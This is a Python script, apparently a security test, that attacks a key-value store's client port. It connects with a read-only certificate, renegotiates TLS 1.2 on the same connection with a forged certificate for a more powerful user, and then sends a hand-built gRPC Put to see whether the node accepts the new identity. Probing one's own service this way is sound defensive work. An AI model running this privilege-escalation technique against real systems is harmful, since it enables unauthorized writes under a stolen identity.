"""An attacker of the client port: it opens a TLS 1.2 connection with one client
certificate (one it rightly holds, of a user with the read role only), renegotiates
TLS on the same connection presenting another certificate (one it made itself, naming
a more powerful user), and then sends one KV.Put by hand over HTTP/2. If the node took
the renegotiated certificate as the caller's identity, the Put succeeds.

grpc-js, grpcio and Go's TLS stack offer no way to renegotiate with another
certificate, so this is pyOpenSSL (Connection.renegotiate, use_certificate) with the h2
library speaking HTTP/2: Debian's python3-openssl and python3-h2. The gRPC message is written by hand
(a 5-byte length prefix and the protobuf bytes), so no generated code is involved.

    renegotiate_then_put.py HOST PORT CA_CRT FIRST_CRT FIRST_KEY SECOND_CRT SECOND_KEY WHEN KEY VALUE

WHEN is `before-first-call` (renegotiate right after the handshake, before any gRPC
call; then the Put) or `after-first-call` (a first Put as the first user, then
renegotiate, then the Put). Prints one JSON object: each step's outcome.
"""

import json
import select
import socket
import sys
import time

import h2.config
import h2.connection
import h2.events
from OpenSSL import SSL, crypto

TIMEOUT_S = 10.0


def put_request(key: bytes, value: bytes) -> bytes:
    """PutRequest{key = 1, value = 2} in protobuf wire format, behind gRPC's 5-byte prefix."""

    def length_delimited(field: int, data: bytes) -> bytes:
        assert len(data) < 128  # one-byte varint lengths keep this by hand
        return bytes([(field << 3) | 2, len(data)]) + data

    message = length_delimited(1, key) + length_delimited(2, value)
    return b"\x00" + len(message).to_bytes(4, "big") + message


class Attacker:
    def __init__(self, host: str, port: int, ca: str, cert: str, key: str) -> None:
        context = SSL.Context(SSL.TLS_METHOD)
        # Renegotiation exists only up to TLS 1.2.
        context.set_min_proto_version(SSL.TLS1_2_VERSION)
        context.set_max_proto_version(SSL.TLS1_2_VERSION)
        context.load_verify_locations(ca)
        context.set_verify(SSL.VERIFY_PEER, lambda *args: args[-1] == 1)
        context.use_certificate_file(cert)
        context.use_privatekey_file(key)
        context.set_alpn_protos([b"h2"])
        # A blocking socket, waited on with select(): OpenSSL reads the descriptor itself,
        # so a Python socket timeout would turn every wait into WantReadError.
        self.raw = socket.create_connection((host, port), timeout=TIMEOUT_S)
        self.raw.settimeout(None)
        self.tls = SSL.Connection(context, self.raw)
        self.tls.set_tlsext_host_name(b"localhost")
        self.tls.set_connect_state()
        self.tls.do_handshake()
        self.h2 = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        self.h2.initiate_connection()
        self.preface_sent = False
        self.settings_seen = False

    def version(self) -> str:
        return self.tls.get_protocol_version_name()

    def readable(self, seconds: float) -> bool:
        return self.tls.pending() > 0 or bool(select.select([self.raw], [], [], seconds)[0])

    def receive(self, data: bytes) -> list:
        events = self.h2.receive_data(data)
        if any(isinstance(event, h2.events.RemoteSettingsChanged) for event in events):
            self.settings_seen = True
        return events

    def peer_sent(self, quiet_s: float) -> None:
        """Reads what the node sends (its SETTINGS first, then acks) until it has been quiet
        for `quiet_s`, so that no record of it is in flight when the renegotiation starts:
        OpenSSL fails a handshake that application data arrives in the middle of."""
        deadline = time.monotonic() + TIMEOUT_S
        while self.readable(quiet_s if self.settings_seen else max(0.0, deadline - time.monotonic())):
            data = self.tls.recv(65535)
            if not data:
                return
            self.receive(data)
        # h2 answers SETTINGS with an ack; it goes out with the preface if that is not sent yet.
        if self.preface_sent:
            self.tls.sendall(self.h2.data_to_send())

    def renegotiate(self, cert: str, key: str) -> str:
        """Presents `cert` in a new handshake on the same connection; 'renegotiated' or why not."""
        self.tls.use_certificate(crypto.load_certificate(crypto.FILETYPE_PEM, open(cert, "rb").read()))
        self.tls.use_privatekey(crypto.load_privatekey(crypto.FILETYPE_PEM, open(key, "rb").read()))
        before = self.tls.total_renegotiations()
        try:
            self.tls.renegotiate()
            self.tls.do_handshake()
            # The client's part is sent; the handshake completes once the node answers.
            deadline = time.monotonic() + TIMEOUT_S
            while self.tls.renegotiate_pending() and time.monotonic() < deadline:
                self.peer_sent(0.2)
        except (SSL.Error, OSError) as error:
            return f"refused: {type(error).__name__} {error}"
        if self.tls.renegotiate_pending():
            return "refused: the node never completed the renegotiation"
        return "renegotiated" if self.tls.total_renegotiations() > before else "not renegotiated"

    def put(self, key: bytes, value: bytes) -> dict:
        """One unary KV.Put; the grpc-status and qkv-error-code it ended with, or how the connection ended."""
        try:
            stream = self.h2.get_next_available_stream_id()
            self.h2.send_headers(stream, [
                (":method", "POST"), (":scheme", "https"), (":path", "/quorumkv.v1.KV/Put"),
                (":authority", "localhost"), ("content-type", "application/grpc"), ("te", "trailers"),
            ])
            self.h2.send_data(stream, put_request(key, value), end_stream=True)
            self.tls.sendall(self.h2.data_to_send())
            self.preface_sent = True
            headers: dict = {}
            deadline = time.monotonic() + TIMEOUT_S
            while True:
                if not self.readable(max(0.0, deadline - time.monotonic())):
                    return {"ended": f"no answer within {TIMEOUT_S} s"}
                data = self.tls.recv(65535)
                if not data:
                    return {"ended": "the node closed the connection"}
                for event in self.receive(data):
                    if isinstance(event, (h2.events.ResponseReceived, h2.events.TrailersReceived)) and event.stream_id == stream:
                        headers.update(dict(event.headers))
                    elif isinstance(event, h2.events.DataReceived):
                        self.h2.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
                    elif isinstance(event, h2.events.ConnectionTerminated):
                        return {"ended": f"GOAWAY {event.error_code}"}
                    if isinstance(event, (h2.events.StreamEnded, h2.events.StreamReset)) and event.stream_id == stream:
                        return {"grpc_status": int(headers.get("grpc-status", "-1")), "qkv_error_code": headers.get("qkv-error-code")}
                self.tls.sendall(self.h2.data_to_send())
        except (SSL.Error, OSError) as error:
            return {"ended": f"{type(error).__name__} {error}"}


def main() -> None:
    host, port, ca, first_cert, first_key, second_cert, second_key, when, key, value = sys.argv[1:]
    attacker = Attacker(host, int(port), ca, first_cert, first_key)
    steps: dict = {"tls_version": attacker.version(), "when": when}
    if when == "after-first-call":
        steps["first_put"] = attacker.put(key.encode() + b"-first", value.encode())
    elif when != "before-first-call":
        raise SystemExit(f"WHEN must be before-first-call or after-first-call, not {when}")
    attacker.peer_sent(0.3)
    steps["renegotiation"] = attacker.renegotiate(second_cert, second_key)
    steps["put"] = attacker.put(key.encode(), value.encode())
    print(json.dumps(steps))


if __name__ == "__main__":
    main()
